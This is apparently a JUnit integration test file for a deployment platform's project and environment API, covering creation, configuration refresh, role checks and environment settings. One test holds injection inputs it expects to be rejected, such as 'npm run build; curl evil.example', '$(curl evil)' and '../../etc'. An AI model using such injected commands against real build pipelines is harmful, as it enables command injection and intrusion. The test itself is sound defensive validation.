package dev.autodeploy.deployer.project;

import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;

import dev.autodeploy.deployer.DeployerTest;
import dev.autodeploy.events.AnalysisCompleted;
import dev.autodeploy.support.membership.Role;
import dev.autodeploy.testsupport.TestGitRemote;
import org.junit.jupiter.api.Test;
import org.springframework.http.ResponseEntity;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Projects and environments over HTTP on real infrastructure: made only from a repository the analyzer
 * announced in the same organization, taking the latest analysis's build configuration with the user's overrides
 * on top, each analysis event applied once; roles per operation; other organizations answer 404.
 */
class ProjectApiTests extends DeployerTest {

    private static final Map<String, String> NEXT = Map.of("installCommand", "npm ci", "buildCommand",
            "npm run build", "startCommand", "npm run start", "runtime", "node", "devCommand", "next dev");

    @Test
    void aProjectIsMadeFromAnAnalyzedRepositoryWithAProductionEnvironment() {
        Member developer = member(Role.DEVELOPER);
        TestGitRemote repository = repository();
        String commit = repository.commit("app", Map.of("package.json", "{}"));
        UUID repositoryId = analyzed(developer, repository, commit, NEXT);

        ResponseEntity<Map<String, Object>> created = post("/api/v1/projects", Map.of("organizationId",
                developer.organizationId(), "repositoryId", repositoryId, "description", "The shop"), developer);

        assertThat(created.getStatusCode().value()).isEqualTo(201);
        assertThat(created.getHeaders().getLocation()).hasPath("/api/v1/projects/" + created.getBody().get("id"));
        Map<String, Object> project = created.getBody();
        assertThat(project).containsEntry("name", "remote").containsEntry("slug", "remote")
                .containsEntry("productionBranch", "main").containsEntry("rootDirectory", "")
                .containsEntry("framework", "node").containsEntry("status", "active")
                .containsEntry("createdBy", developer.userId().toString());
        assertThat(map(project.get("repository"))).containsEntry("url", repository.fileUrl());
        assertThat(map(project.get("buildConfiguration"))).containsEntry("installCommand", "npm ci")
                .containsEntry("startCommand", "npm run start").doesNotContainKey("devCommand");
        assertThat(map(project.get("latestAnalysis"))).containsEntry("commitSha", commit);
        assertThat(list(project.get("environments"))).singleElement().satisfies(environment -> assertThat(environment)
                .containsEntry("name", "production").containsEntry("kind", "production")
                .containsEntry("branch", "main").containsEntry("target", "local").containsEntry("autoDeploy", true));

        ResponseEntity<Map<String, Object>> again = post("/api/v1/projects", Map.of("organizationId",
                developer.organizationId(), "repositoryId", repositoryId), developer);
        assertThat(again.getStatusCode().value()).isEqualTo(201);
        assertThat(again.getBody()).containsEntry("slug", "remote-2");
    }

    @Test
    void aRepositoryWithoutASuccessfulAnalysisHereCannotBecomeAProject() {
        Member developer = member(Role.DEVELOPER);
        TestGitRemote repository = repository();
        String commit = repository.commit("app", Map.of("package.json", "{}"));
        Member other = member(Role.DEVELOPER);
        UUID othersRepository = analyzed(other, repository, commit, NEXT);
        UUID failed = UUID.randomUUID();
        announce(new AnalysisCompleted(UUID.randomUUID(), Instant.now(), UUID.randomUUID(), failed,
                developer.organizationId(), commit, "failed", null, Map.of(), "clone failed", repository.fileUrl(), "main",
                ""));

        for (UUID repositoryId : new UUID[] { UUID.randomUUID(), othersRepository, failed }) {
            ResponseEntity<Map<String, Object>> refused = post("/api/v1/projects", Map.of("organizationId",
                    developer.organizationId(), "repositoryId", repositoryId), developer);
            assertThat(refused.getStatusCode().value()).isEqualTo(422);
            assertThat(refused.getBody()).containsEntry("type", "https://autodeploy.dev/problems/repository-not-analyzed");
        }
        assertThat(count("SELECT count(*) FROM projects WHERE organization_id = ?", developer.organizationId()))
                .isZero();
    }

    @Test
    void newerAnalysesRefreshTheDetectedConfigurationOnceEachAndOverridesStayOnTop() {
        Member developer = member(Role.DEVELOPER);
        TestGitRemote repository = repository();
        String first = repository.commit("app", Map.of("package.json", "{}"));
        UUID repositoryId = analyzed(developer, repository, first, NEXT);
        Map<String, Object> project = post("/api/v1/projects", Map.of("organizationId", developer.organizationId(),
                "repositoryId", repositoryId, "buildConfiguration", Map.of("buildCommand", "npm run build:prod")),
                developer).getBody();
        String path = "/api/v1/projects/" + project.get("id");

        String second = repository.commit("pnpm", Map.of("pnpm-lock.yaml", "lockfileVersion: 9\n"));
        AnalysisCompleted newer = new AnalysisCompleted(UUID.randomUUID(), Instant.now(), UUID.randomUUID(),
                repositoryId, developer.organizationId(), second, "succeeded", "nextjs",
                Map.of("installCommand", "pnpm install --frozen-lockfile", "buildCommand", "pnpm build",
                        "startCommand", "pnpm start"), null, repository.fileUrl(), "main", "");
        announce(newer);
        announce(newer);
        announce(new AnalysisCompleted(UUID.randomUUID(), Instant.now().minusSeconds(3600), UUID.randomUUID(),
                repositoryId, developer.organizationId(), first, "succeeded", "old", Map.of("installCommand", "yarn"),
                null, repository.fileUrl(), "main", ""));

        Map<String, Object> refreshed = get(path, developer).getBody();
        assertThat(refreshed).containsEntry("framework", "nextjs");
        assertThat(map(refreshed.get("detectedBuildConfiguration")))
                .containsEntry("installCommand", "pnpm install --frozen-lockfile");
        assertThat(map(refreshed.get("buildConfiguration"))).containsEntry("buildCommand", "npm run build:prod")
                .containsEntry("installCommand", "pnpm install --frozen-lockfile");
        assertThat(map(refreshed.get("latestAnalysis"))).containsEntry("commitSha", second);
        assertThat(count("SELECT count(*) FROM processed_event WHERE event_id = ?", newer.eventId())).isOne();

        Map<String, String> edit = new LinkedHashMap<>();
        edit.put("startCommand", "node .next/standalone/server.js");
        edit.put("installCommand", null);
        Map<String, Object> edited = put(path, Map.of("buildConfiguration", edit, "name", "Shop"), developer).getBody();
        assertThat(edited).containsEntry("name", "Shop");
        assertThat(map(edited.get("buildConfiguration"))).doesNotContainKey("installCommand")
                .containsEntry("startCommand", "node .next/standalone/server.js");
        Map<String, Object> reset = put(path, Map.of("resetBuildConfiguration", true), developer).getBody();
        assertThat(map(reset.get("buildConfiguration"))).containsEntry("buildCommand", "pnpm build");
    }

    @Test
    void commandsAUserEntersAreCheckedBeforeTheyAreKept() {
        Member developer = member(Role.DEVELOPER);
        TestGitRemote repository = repository();
        String commit = repository.commit("app", Map.of("package.json", "{}"));
        Map<String, Object> project = post("/api/v1/projects", Map.of("organizationId", developer.organizationId(),
                "repositoryId", analyzed(developer, repository, commit, NEXT)), developer).getBody();
        String path = "/api/v1/projects/" + project.get("id");

        for (Map<String, String> bad : java.util.List.of(Map.of("buildCommand", "npm run build; curl evil.example"),
                Map.of("startCommand", "node server.js | tee log"), Map.of("installCommand", "$(curl evil)"),
                Map.of("outputDirectory", "../../etc"), Map.of("dockerfile", "Dockerfile"))) {
            ResponseEntity<Map<String, Object>> refused = put(path, Map.of("buildConfiguration", bad), developer);
            assertThat(refused.getStatusCode().value()).as("%s", bad).isEqualTo(422);
            assertThat(refused.getBody())
                    .containsEntry("type", "https://autodeploy.dev/problems/invalid-build-configuration");
        }
        ResponseEntity<Map<String, Object>> badBody = put(path, Map.of("rootDirectory", "../outside"), developer);
        assertThat(badBody.getStatusCode().value()).isEqualTo(400);
        assertThat(map(get(path, developer).getBody().get("buildConfiguration")))
                .containsEntry("buildCommand", "npm run build");
    }

    @Test
    void rolesDecideWhoReadsCreatesEditsAndDeletesAndOtherOrganizationsSeeNothing() {
        Member admin = member(Role.ADMIN);
        Member developer = member(admin.organizationId(), Role.DEVELOPER);
        Member viewer = member(admin.organizationId(), Role.VIEWER);
        Member outsider = member(Role.OWNER);
        TestGitRemote repository = repository();
        String commit = repository.commit("app", Map.of("package.json", "{}"));
        UUID repositoryId = analyzed(admin, repository, commit, NEXT);
        Map<String, Object> create = Map.of("organizationId", admin.organizationId(), "repositoryId", repositoryId);

        assertThat(post("/api/v1/projects", create, viewer).getStatusCode().value()).isEqualTo(403);
        Map<String, Object> project = post("/api/v1/projects", create, developer).getBody();
        String path = "/api/v1/projects/" + project.get("id");

        assertThat(get(path, viewer).getStatusCode().value()).isEqualTo(200);
        assertThat(get("/api/v1/projects?organizationId=" + admin.organizationId(), viewer).getBody().get("content"))
                .asList().hasSize(1);
        assertThat(put(path, Map.of("name", "x"), viewer).getStatusCode().value()).isEqualTo(403);
        assertThat(put(path, Map.of("name", "Renamed"), developer).getStatusCode().value()).isEqualTo(200);
        assertThat(post(path + "/environments", Map.of("name", "staging"), developer).getStatusCode().value())
                .isEqualTo(403);
        assertThat(delete(path, developer)).isEqualTo(403);

        ResponseEntity<Map<String, Object>> hidden = get(path, outsider);
        assertThat(hidden.getStatusCode().value()).isEqualTo(404);
        assertThat(hidden.getBody()).containsEntry("type", "https://autodeploy.dev/problems/project-not-found");
        assertThat(put(path, Map.of("name", "mine"), outsider).getStatusCode().value()).isEqualTo(404);
        assertThat(get(path + "/environments", outsider).getStatusCode().value()).isEqualTo(404);
        assertThat(get("/api/v1/projects?organizationId=" + admin.organizationId(), outsider).getStatusCode().value())
                .isEqualTo(404);
        assertThat(get(path, stranger()).getStatusCode().value()).isEqualTo(404);
        assertThat(get(path, null).getStatusCode().value()).isEqualTo(401);

        assertThat(delete(path, admin)).isEqualTo(204);
        assertThat(get(path, admin).getStatusCode().value()).isEqualTo(404);
    }

    @Test
    void environmentsAreAddedWithTheirTargetSettingsCheckedAndProductionStays() {
        Member admin = member(Role.ADMIN);
        TestGitRemote repository = repository();
        String commit = repository.commit("app", Map.of("package.json", "{}"));
        Map<String, Object> project = post("/api/v1/projects", Map.of("organizationId", admin.organizationId(),
                "repositoryId", analyzed(admin, repository, commit, NEXT)), admin).getBody();
        String path = "/api/v1/projects/" + project.get("id") + "/environments";

        ResponseEntity<Map<String, Object>> staging = post(path, Map.of("name", "staging", "branch", "develop",
                "settings", Map.of("healthCheckPath", "/healthz", "memoryLimitMb", "256")), admin);
        assertThat(staging.getStatusCode().value()).isEqualTo(201);
        assertThat(staging.getBody()).containsEntry("kind", "custom").containsEntry("branch", "develop")
                .containsEntry("target", "local");
        assertThat(post(path, Map.of("name", "staging"), admin).getStatusCode().value()).isEqualTo(409);
        assertThat(post(path, Map.of("name", "Bad Name"), admin).getStatusCode().value()).isEqualTo(400);
        assertThat(post(path, Map.of("name", "prod2", "kind", "production"), admin).getStatusCode().value())
                .isEqualTo(400);

        ResponseEntity<Map<String, Object>> badSetting = post(path, Map.of("name", "qa", "settings",
                Map.of("replicas", "3")), admin);
        assertThat(badSetting.getStatusCode().value()).isEqualTo(422);
        assertThat(badSetting.getBody()).containsEntry("type", "https://autodeploy.dev/problems/invalid-target-settings");
        assertThat((String) badSetting.getBody().get("detail")).contains("replicas").contains("healthCheckPath");
        assertThat(put(path + "/staging", Map.of("settings", Map.of("memoryLimitMb", "lots")), admin)
                .getStatusCode().value()).isEqualTo(422);
        ResponseEntity<Map<String, Object>> unknownTarget = put(path + "/staging", Map.of("target", "heroku"), admin);
        assertThat(unknownTarget.getStatusCode().value()).isEqualTo(422);
        assertThat(unknownTarget.getBody()).containsEntry("type", "https://autodeploy.dev/problems/unknown-target");

        assertThat(call(org.springframework.http.HttpMethod.GET, path, null, admin)
                .body(java.util.List.class)).hasSize(2);
        ResponseEntity<Map<String, Object>> keepProduction = call(org.springframework.http.HttpMethod.DELETE,
                path + "/production", null, admin).toEntity(JSON);
        assertThat(keepProduction.getStatusCode().value()).isEqualTo(409);
        assertThat(delete(path + "/staging", admin)).isEqualTo(204);
        assertThat(get(path + "/staging", admin).getStatusCode().value()).isEqualTo(404);
    }
}
